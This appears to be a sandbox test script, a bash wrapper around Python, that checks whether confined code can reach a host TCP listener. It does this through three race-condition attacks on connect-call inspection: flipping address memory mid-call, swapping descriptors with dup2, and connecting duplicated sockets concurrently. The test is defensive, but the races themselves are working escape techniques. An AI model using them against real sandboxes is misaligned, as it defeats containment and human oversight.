#!/bin/bash
# must NOT reach the host's TCP listener by changing the address, or the descriptor, while the call is looked at: another thread writes the memory, puts other sockets in the place (dup2), or connects a copy. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
. "${SBX_ENV:-./attack.env}" || exit 77
needpy
timeout 13 $PY - <<'P'
import ctypes,os,socket,struct,sys,threading,time
libc=ctypes.CDLL(None,use_errno=True); victim=int(os.environ["ATK_TCP"])
proxy=(os.environ.get("http_proxy") or "").rsplit(":",1)[-1].rstrip("/"); own=socket.socket()
def address(port): return struct.pack("<H",2)+struct.pack(">H",port)+bytes([127,0,0,1])+bytes(8)
# An address that may be connected to, where there is one: the proxy's, or a server of this script.
allowed=int(proxy) if proxy.isdigit() else 0
if not allowed:
    def serve():
        while 1: own.accept()[0].close()
    try: own.bind(("127.0.0.1",0)); own.listen(999); allowed=own.getsockname()[1]; threading.Thread(target=serve,daemon=True).start()
    except OSError: allowed=1
stop=[False]; won=[0]
def reached(fd):
    try:
        with socket.socket(fileno=os.dup(fd)) as s: peer=s.getpeername(); return isinstance(peer,tuple) and peer[1]==victim
    except OSError: return False
def memory(end):
    buf=ctypes.create_string_buffer(address(allowed),16); good,bad=address(allowed),address(victim); done=[0]
    def flip():
        while not done[0]: ctypes.memmove(buf,bad,16); ctypes.memmove(buf,good,16)
    threading.Thread(target=flip,daemon=True).start()
    while time.time()<end:
        s=socket.socket()
        if libc.connect(s.fileno(),buf,16)==0 and reached(s.fileno()): won[0]+=1
        s.close()
    done[0]=1
def descriptor(end):
    pair=socket.socketpair(); fd=os.dup(pair[0].fileno()); done=[0]
    def flip():
        while not done[0]:
            x=socket.socket(); os.dup2(x.fileno(),fd); os.dup2(pair[0].fileno(),fd); x.close()
    threading.Thread(target=flip,daemon=True).start(); buf=ctypes.create_string_buffer(address(victim),16)
    while time.time()<end:
        if libc.connect(fd,buf,16)==0 or reached(fd): won[0]+=1
    done[0]=1
def copies(end):
    while time.time()<end:
        s=socket.socket(); d=s.dup(); r=[]
        def go(x,p):
            try: x.connect(("127.0.0.1",p))
            except OSError: pass
        ts=[threading.Thread(target=go,args=a) for a in ((s,allowed),(d,victim),(s,victim))]; [t.start() for t in ts]; [t.join() for t in ts]
        if reached(s.fileno()) or reached(d.fileno()): won[0]+=1
        s.close(); d.close()
try: memory(time.time()+3); descriptor(time.time()+2); copies(time.time()+2)
except OSError: pass
os._exit(0 if won[0] else 1)
P
